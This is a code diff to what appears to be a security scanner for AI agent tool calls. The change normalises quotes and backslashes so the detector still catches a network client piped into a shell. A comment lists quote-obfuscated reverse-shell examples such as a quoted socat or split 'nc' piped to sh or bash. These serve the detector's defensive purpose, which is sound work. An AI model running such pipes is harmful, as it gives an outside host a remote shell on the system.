@@ -90,6 +90,13 @@ def _fed_by_network(name: str, call: ToolCall) -> Finding | None:
     if not isinstance(text, str) or "|" not in text:
         return None
     found = _CLIENT_INTO_SHELL.search(text)
+    if found is None and ("'" in text or '"' in text or "\\" in text):
+        # `"socat" tcp:h:p - | sh`, `n''c h p | sh`, `\nc h p | bash`: the same names to the
+        # shell. Without its quotes the text can only show more such pipes, never fewer.
+        bare = text.replace("$'", "'")
+        for quote in ("'", '"', "\\"):
+            bare = bare.replace(quote, "")
+        found = _CLIENT_INTO_SHELL.search(bare)
     if found is None:
         return None
     return Finding(
